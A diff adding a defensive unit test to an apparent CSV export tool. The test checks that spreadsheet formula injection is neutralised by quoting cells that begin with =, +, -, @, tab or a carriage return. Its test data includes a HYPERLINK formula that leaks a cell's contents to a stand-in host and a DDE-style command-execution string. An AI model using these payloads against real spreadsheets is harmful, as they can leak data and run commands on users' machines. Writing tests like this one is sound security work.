@@ -116,6 +116,34 @@ def test_ami_rows_list_pushable_documents_as_members_of_the_collection():
     assert parsed[1]["texts"] == ""
 
 
+def test_ami_spreadsheet_cells_never_run_as_formulas():
+    """A file name or label beginning with =, +, -, @, a tab or a carriage return is written
+    with a leading quote, so a spreadsheet shows it instead of running it, and a line break
+    inside one cannot start a row; the UUIDs, ids and file names Archipelago reads stay
+    exactly as they were, and other text is untouched."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open").pdf', "+1+1.pdf", "-2+3.pdf", "@SUM(A1).pdf"]
+    hostile += ["\tx.pdf", "\rx.pdf"]
+    names = [*hostile, "plain=name.pdf", "'already quoted.pdf", "minutes\r=HYPERLINK(A1).pdf", "two\nlines.pdf"]
+    documents = [
+        {"doc_id": f"d{n:04d}", "filename": name, "status": "completed"} for n, name in enumerate(names, start=1)
+    ]
+    options = PushOptions(label="=cmd|' /C calc'!A0", ado_type="@Book")
+    text = ami_csv(ami_rows("job", documents, options, include_collection=True))
+    collection, *objects = csv.DictReader(io.StringIO(text))
+    assert collection["label"] == "'=cmd|' /C calc'!A0"
+    # A line break inside a name stays in its cell: no row begins at the "=" after it.
+    assert [row["label"] for row in objects] == [f"'{name}" for name in hostile] + names[len(hostile) :]
+    assert {row["type"] for row in objects} == {"'@Book"}
+    for row, document in zip(objects, documents, strict=True):
+        doc_id = document["doc_id"]
+        assert row["node_uuid"] == object_uuid("job", doc_id)
+        assert row["ismemberof"] == collection_uuid("job")
+        assert row["documents"] == output_filename(doc_id, document["filename"], "pdf")
+        assert row["texts"] == output_filename(doc_id, document["filename"], "txt")
+        assert row["documents"].startswith(doc_id)
+        assert row["bulkocr_doc_id"] == doc_id
+
+
 @pytest.mark.parametrize(
     ("states", "status", "retry"),
     [
